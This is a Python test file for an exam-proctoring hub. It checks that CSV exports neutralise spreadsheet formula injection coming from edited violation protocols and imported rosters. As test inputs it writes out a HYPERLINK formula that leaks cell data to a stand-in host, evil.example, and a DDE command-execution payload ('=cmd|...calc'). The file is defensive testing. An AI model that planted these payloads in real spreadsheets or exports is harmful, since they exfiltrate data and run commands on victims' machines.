"""Spreadsheet formula injection: a cell that a spreadsheet would run as a formula (it begins
with = + - @, a tab or a carriage return) leaves every CSV export as text, whether it came from
an edited protocol or from an imported roster."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest

from hub.csv_export import FORMULA_STARTS, neutralise
from hub.store import rooms
from hub.store import violation_protocols as store
from hub.store.alerts import apply_alert
from hub.store.db import connect
from kuzet import contract
from kuzet_tools.bench.sim import alert_for
from tests.support.hub_env import login, seatmap
from tests.test_hub_access import put_alert

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+7 701", "'+7 701"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Әлия", "Әлия"), ("2026-12-01", "2026-12-01"),
    ("", ""), (None, ""), (7, "7"),
])
def test_a_cell_that_would_be_a_formula_is_made_text(cell, safe):
    assert neutralise(cell) == safe


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def _window_now(tz: str) -> tuple[str, str, str]:
    """Today's date and a start/end around now, in the hub's zone, within one day."""
    now = datetime.now(UTC).astimezone(ZoneInfo(tz))
    start, end = now - timedelta(minutes=30), now + timedelta(minutes=30)
    if start.date() != now.date():
        start = now.replace(hour=0, minute=0)
    if end.date() != now.date():
        end = now.replace(hour=23, minute=59)
    return now.date().isoformat(), start.strftime("%H:%M"), end.strftime("%H:%M")


def test_hostile_protocol_and_roster_reach_the_retake_csv_as_text(client, services, seeded):
    w = services.writer
    # 1. a proctor edits a protocol's fields into formulas
    aid, _ev = put_alert(services, "a101")
    token = login(client, "aigerim")
    client.post(f"/proctor/alerts/{aid}/confirm", data={"csrf_token": token})
    conn = connect(services.db_path, readonly=True)
    pid = store.for_alert(conn, aid)["id"]
    client.post(f"/protocols/{pid}", data={"csrf_token": token, "student": HYPERLINK,
                                           "discipline": "+Физика", "group_name": "@A1",
                                           "student_no": "-1+2"})
    client.post(f"/protocols/{pid}/issue", data={"csrf_token": token})

    # 2. an admin imports a roster whose names are formulas; the protocol is prefilled from it
    w.call(rooms.load_seatmap, "main", "c303", seatmap("c303"), "Room C303")
    day, start, end = _window_now("Asia/Almaty")
    roster = ("group,student_no,name,seat\n"
              f'"=cmd|\'/c calc\'!A0",007,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",r1s1\n')
    timetable = ("exam_code,discipline,groups,building,room,date,start,end,proctors\n"
                 f"X1,Химия,\"=cmd|'/c calc'!A0\",main,c303,{day},{start},{end},aigerim\n")
    admin_token = login(client, "admin")
    r = client.post("/exams/import", data={
        "csrf_token": admin_token,
        "roster": (BytesIO(roster.encode()), "roster.csv", "text/csv"),
        "timetable": (BytesIO(timetable.encode()), "tt.csv", "text/csv")})
    assert r.status_code == 302
    o = contract.Origin(building="main", room="c303", node="cam1")
    aid2 = contract.new_id()
    w.call(lambda c: apply_alert(c, alert_for(o, "r1s1", alert_id=aid2), 1.0))
    pid2 = w.call(store.create_draft, aid2, seeded.ids["aigerim"])
    draft = store.get(conn, pid2)
    assert draft["student"] == HYPERLINK and draft["group_name"].startswith("=")  # as imported
    token = login(client, "aigerim")
    assert client.post(f"/protocols/{pid2}/issue", data={"csrf_token": token}
                       ).status_code == 302
    conn.close()

    login(client, "dean")
    r = client.get("/protocols/retakes?format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = cells(r.text)
    assert_no_formula(rows)
    by_protocol = {row[-1]: row for row in rows[1:]}
    assert by_protocol[str(pid)][:4] == ["'+Физика", "'@A1", "'-1+2", "'" + HYPERLINK]
    assert by_protocol[str(pid2)][1] == "'=cmd|'/c calc'!A0"
    assert by_protocol[str(pid2)][3] == "'" + HYPERLINK
